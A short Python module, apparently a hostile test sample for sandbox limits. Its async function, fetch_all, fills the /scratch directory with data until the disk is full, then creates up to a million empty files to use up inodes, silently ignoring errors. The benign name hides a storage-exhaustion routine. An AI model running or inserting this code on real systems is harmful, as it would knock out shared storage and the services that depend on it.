"""Fills the only writable place, then a sparse file, then inodes."""

import os
from typing import Any


async def fetch_all(services: Any) -> Any:
    try:
        with open("/scratch/big", "wb") as file:
            while True:
                file.write(b"x" * (1 << 20))
    except OSError:
        pass
    try:
        for number in range(1_000_000):
            os.close(os.open(f"/scratch/{number}", os.O_CREAT))
    except OSError:
        pass
    return {}
